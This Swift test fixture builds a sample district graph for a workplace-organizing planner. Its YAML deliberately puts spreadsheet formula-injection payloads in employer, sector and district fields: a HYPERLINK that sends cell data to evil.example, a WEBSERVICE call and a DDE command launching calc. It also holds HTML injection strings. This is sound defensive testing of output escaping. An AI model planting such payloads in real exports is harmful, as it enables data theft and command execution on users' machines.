import Foundation
import ShopfloorModel
import ShopfloorPlanning
import ShopfloorStore
import ShopfloorTestSupport

/// Graphs for the presenters: a district whose names try every trick a spreadsheet or a browser falls for, and
/// the district sample.
enum PresentFixture {
    static let today = Day(year: 2026, month: 11, day: 24) ?? Day(daysSinceEpoch: 0)

    /// Two plants, a night shift with a gate, people with names no output may show, and employers, unions and
    /// sectors written the way an attacker would write them.
    static let yaml = """
        name: Hostile district
        places:
          - {id: mahalle, kind: neighbourhood, name: Mahalle, district: North}
        workplaces:
          - id: big-a
            name: Big A Works
            sector: "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
            employer: "+WEBSERVICE(\\"http://evil.example\\")"
            headcount: 1000
            district: "@SUM(1+1)*cmd|' /C calc'!A0"
            union: {name: "-2+3; Türk Metal, \\"yellow\\"", character: yellow}
            gates: [{id: a-gate, name: "Gate A <b>&</b>", neighbourhood: mahalle}]
            shops: [{id: a-body, name: Body}, {id: a-paint, name: Paint}]
            shifts:
              - {id: a-day, name: Day, start: "06:00", end: "14:00", gate: a-gate}
              - {id: a-night, name: Night, start: "22:00", end: "06:00", gate: a-gate, days: [mon, tue, wed, thu, fri, sat]}
          - {id: small-b, name: Small B, sector: retail, employer: "Acme, \\"the\\" works", headcount: 40, district: South}
        people:
          - {id: a-m1, name: Alma Ruiz, shop: a-body, shift: a-day, affiliation: member, notes: Secret note}
          - {id: a-c1, name: Cem Okur, shop: a-body, shift: a-night, assessment: 2}
          - {id: b-m1, name: Bora Yel, workplace: small-b, affiliation: member}
          - {id: b-m2, name: Berk Ak, workplace: small-b, affiliation: member}
          - {id: b-m3, name: Banu Gul, workplace: small-b, affiliation: member}
          - {id: s-m1, name: Selim Ulu, home: mahalle, affiliation: member}
          - {id: s-m2, name: Sibel Kus, home: mahalle, affiliation: member}
          - {id: s-m3, name: Suat Tan, home: mahalle, affiliation: member}
        cells:
          - {id: b-cell, kind: workplace, workplace: small-b, members: [b-m1, b-m2, b-m3], committee: [b-m1, b-m2, b-m3]}
          - {id: st-cell, kind: street, neighbourhood: mahalle, targets: [big-a], members: [s-m1, s-m2, s-m3]}
        contacts:
          - {date: 2026-11-20, by: s-m1, with: a-c1, channel: gate, notes: Secret note about Cem}
        """

    static func graph() throws -> OrganizingGraph {
        try GraphFile.parse(text: yaml, path: "hostile.yaml")
    }

    static func report(by grouping: PenetrationReport.Grouping = .workplace) throws -> PenetrationReport {
        PenetrationReport(graph: try graph(), options: .init(grouping: grouping, today: today))
    }

    /// The district sample and its report.
    static func district(by grouping: PenetrationReport.Grouping = .workplace) throws -> (OrganizingGraph, PenetrationReport) {
        let graph = try GraphFile.load(path: Sample.district.path)
        return (graph, PenetrationReport(graph: graph, options: .init(grouping: grouping, today: today)))
    }
}
